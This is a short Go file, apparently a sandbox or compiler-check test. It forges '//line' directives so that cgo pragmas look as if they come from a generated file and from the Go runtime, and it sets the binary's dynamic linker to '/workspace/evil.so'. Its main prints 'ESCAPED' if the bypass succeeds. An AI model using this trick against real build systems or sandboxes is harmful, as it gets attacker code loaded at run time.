package main

import "fmt"

// The pragmas of cgo are for generated files only, so this pretends to be one.

//line _cgo_gotypes.go:1
//go:cgo_ldflag "-Wl,--dynamic-linker=/workspace/evil.so"
//go:cgo_dynamic_linker "/workspace/evil.so"
//go:cgo_import_dynamic evil evil "/workspace/evil.so"

//line /usr/lib/go/src/runtime/proc.go:1
//go:linkname exit runtime.exit
func main() {
	fmt.Println("ESCAPED")
}
